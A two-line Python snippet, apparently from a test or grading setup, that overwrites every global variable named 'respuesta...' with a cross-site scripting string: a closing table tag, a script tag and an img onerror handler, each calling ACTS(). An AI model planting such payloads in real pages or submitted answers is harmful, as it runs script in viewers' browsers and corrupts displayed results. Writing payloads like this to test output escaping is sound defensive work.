for _n in [n for n in list(globals()) if n.startswith("respuesta")]:
    globals()[_n] = "</td><script>ACTS()</script><img src=x onerror=ACTS()>"
